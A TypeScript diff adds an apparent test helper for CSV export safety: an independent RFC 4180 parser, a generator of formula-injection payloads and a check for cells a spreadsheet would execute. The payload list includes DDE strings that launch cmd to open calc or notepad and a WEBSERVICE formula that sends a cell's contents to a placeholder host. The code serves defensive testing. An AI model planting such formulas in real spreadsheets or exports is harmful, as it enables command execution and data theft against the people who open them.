@@ -1,0 +1,67 @@
+/** The records of a CSV text, by RFC 4180 and nothing else: a second reading, on purpose not the product's. */
+export function readCsvText(text: string): string[][] {
+  const records: string[][] = [];
+  let record: string[] = [];
+  let cell = '';
+  let isQuoted = false;
+  const endCell = (): void => {
+    record.push(cell);
+    cell = '';
+  };
+  for (let at = 0; at < text.length; at += 1) {
+    const char = text[at] ?? '';
+    if (isQuoted) {
+      if (char !== '"') cell += char;
+      else if (text[at + 1] === '"') {
+        cell += '"';
+        at += 1;
+      } else isQuoted = false;
+    } else if (char === '"' && cell === '') isQuoted = true;
+    else if (char === ',') endCell();
+    else if (char === '\r' && text[at + 1] === '\n') {
+      endCell();
+      records.push(record);
+      record = [];
+      at += 1;
+    } else cell += char;
+  }
+  if (cell !== '' || record.length > 0) {
+    endCell();
+    records.push(record);
+  }
+  return records;
+}
+
+const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
+const COMMANDS = [
+  ...[
+    'SUM(1+1)*cmd|" /C calc"!A0',
+    'HYPERLINK("http://e.invalid","x")',
+    'WEBSERVICE("http://e.invalid/"&A1)',
+  ],
+  ...[
+    '1+1',
+    'cmd|" /C notepad"!"A1"',
+    'IMPORTXML("http://e.invalid","//a")',
+    '2+5+cmd|"/C calc"!A0',
+    '"a",b',
+  ],
+  ...['DDE("cmd";"/C calc";"x")'],
+];
+
+/** 100 texts that a spreadsheet would run, each told apart by its number. */
+export function formulaPayloads(count: number): readonly string[] {
+  const blanks = ['', ' ', "'", "' "];
+  return Array.from({ length: count }, (_item, index) => {
+    const start = STARTS[index % STARTS.length] ?? '=';
+    const blank = blanks[Math.floor(index / STARTS.length) % blanks.length] ?? '';
+    return `${blank}${start}${COMMANDS[index % COMMANDS.length] ?? ''} ${index}`;
+  });
+}
+
+/** A cell that a spreadsheet would run; numbers with a sign are none. */
+export function isLiveFormula(cell: string): boolean {
+  if (/^[+-]?\d+(\.\d+)?$/.test(cell)) return false;
+  const first = cell.trimStart().replace(/^\uFEFF/, '')[0] ?? '';
+  return STARTS.includes(cell[0] ?? '') || STARTS.includes(first);
+}
